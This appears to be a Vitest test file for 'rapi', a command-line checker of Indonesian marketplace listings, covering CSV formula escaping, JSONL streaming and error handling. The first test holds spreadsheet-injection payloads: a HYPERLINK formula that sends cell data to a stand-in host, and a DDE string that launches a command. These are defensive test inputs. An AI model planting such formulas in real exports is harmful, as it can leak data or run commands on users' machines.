import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { rapi, rapiBin, root, tempDir, type JsonListing } from './run-rapi';

const fixtures = path.join(root, 'tests/fixtures');
const HYPERLINK = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik") Keripik Pisang 250 gr';
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const MULTI_LINE = '=1+1\nKopi Arabika Gayo 250 gr';

describe('rapi check --format csv escapes formulas (spreadsheet injection)', { timeout: 60_000 }, () => {
  it('writes titles a spreadsheet would run as text, multi-line ones included', () => {
    const input = [HYPERLINK, AT_SUM, MULTI_LINE].map((title) => JSON.stringify({ title })).join('\n');
    const { code, stdout } = rapi(['check', '-', '--format', 'csv'], input);
    expect(code).toBe(0);
    const rows = Papa.parse<Record<string, string>>(stdout, { header: true, skipEmptyLines: true }).data;
    expect(rows.map((r) => r.title)).toEqual([`'${HYPERLINK}`, `'${AT_SUM}`, `'${MULTI_LINE}`]);
    expect(stdout).not.toMatch(/(^|,|")[=@]/m);
  });
});

describe('rapi check streams its output', { timeout: 60_000 }, () => {
  it('writes JSONL: one record per line, the same records as --format json', () => {
    const file = path.join(fixtures, 'cli/bad-rows.csv');
    const json = JSON.parse(rapi(['check', file, '--format', 'json']).stdout) as JsonListing[];
    const { code, stdout } = rapi(['check', file, '--format', 'jsonl']);
    expect(code).toBe(0);
    const lines = stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines.map((l) => JSON.parse(l))).toEqual(json);
  });

  it('writes the JSON array exactly as one JSON.stringify of the whole list would', () => {
    const { stdout } = rapi(['check', path.join(fixtures, 'cli/bad-rows.csv'), '--format', 'json']);
    expect(stdout).toBe(`${JSON.stringify(JSON.parse(stdout), null, 2)}\n`);
  });

  it('says on stderr how many listings were read, checked and skipped, keeping stdout machine-readable', () => {
    const { stdout, stderr } = rapi(['check', path.join(fixtures, 'cli/bad-rows.csv'), '--format', 'json']);
    expect(stderr).toContain('Selesai: 5 listing dibaca, 2 diperiksa, 3 dilewati. / Done: 5 listings read, 2 checked, 3 skipped.');
    expect(stdout).not.toContain('Selesai');
  });

  it('writes each listing while the rest of the input is still coming', async () => {
    const child = spawn(process.execPath, [rapiBin, 'check', '-', '--format', 'jsonl'], { cwd: root });
    let stdout = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    const until = async (lines: number) => {
      for (let waited = 0; stdout.split('\n').length <= lines; waited += 50) {
        if (waited > 30_000) throw new Error(`no output after ${lines - 1} lines; stdout: ${stdout}`);
        await new Promise((r) => setTimeout(r, 50));
      }
    };
    child.stdin.write('title,price\nKeripik Pisang Lampung Rasa Cokelat 250 gr,Rp25.000\n');
    await until(1);
    child.stdin.write('Kopi Arabika Gayo 250 gr Biji Sangrai,85000\n');
    await until(2);
    child.stdin.end();
    const code = await new Promise((resolve) => child.on('close', resolve));
    expect(code).toBe(0);
    expect(stdout.trimEnd().split('\n').map((l) => (JSON.parse(l) as JsonListing).title)).toEqual([
      'Keripik Pisang Lampung Rasa Cokelat 250 gr',
      'Kopi Arabika Gayo 250 gr Biji Sangrai',
    ]);
  });

  it('keeps stdout a complete JSON document when the input breaks off midway, then exits 2 with the reason', () => {
    const dir = tempDir('broken-csv');
    const file = path.join(dir, 'putus.csv');
    const unclosed = `"Sambal Roa ${'pedas '.repeat(200_000)}`;
    writeFileSync(file, `title,price\nKeripik Pisang Lampung 250 gr,25000\nKopi Gayo 250 gr,85000\n${unclosed},30000\n`);
    const { code, stdout, stderr } = rapi(['check', file, '--format', 'json']);
    expect(code).toBe(2);
    expect((JSON.parse(stdout) as JsonListing[]).map((l) => l.title)).toEqual(['Keripik Pisang Lampung 250 gr', 'Kopi Gayo 250 gr']);
    expect(stderr).toContain('Baris 4 lebih dari 1 juta huruf: biasanya tanda kutip (") yang tidak ditutup.');
    expect(stderr).toContain('Berhenti: 2 listing dibaca, 2 diperiksa, 0 dilewati.');
    expect(stderr).not.toMatch(/\n\s+at /);
  });

  it('stops quietly when the reader of stdout goes away (rapi check … | head)', async () => {
    const dir = tempDir('epipe');
    const file = path.join(dir, 'banyak.jsonl');
    writeFileSync(file, Array.from({ length: 3_000 }, (_, i) => JSON.stringify({ title: `Keripik Pisang Lampung ${i} 250 gr` })).join('\n'));
    const child = spawn(process.execPath, [rapiBin, 'check', file, '--format', 'jsonl'], { cwd: root });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    await new Promise((resolve) => child.stdout.once('data', resolve));
    child.stdout.destroy();
    const code = await new Promise((resolve) => child.on('close', resolve));
    expect(code).toBe(0);
    expect(stderr).not.toMatch(/EPIPE|Error|\n\s+at /);
  });
});
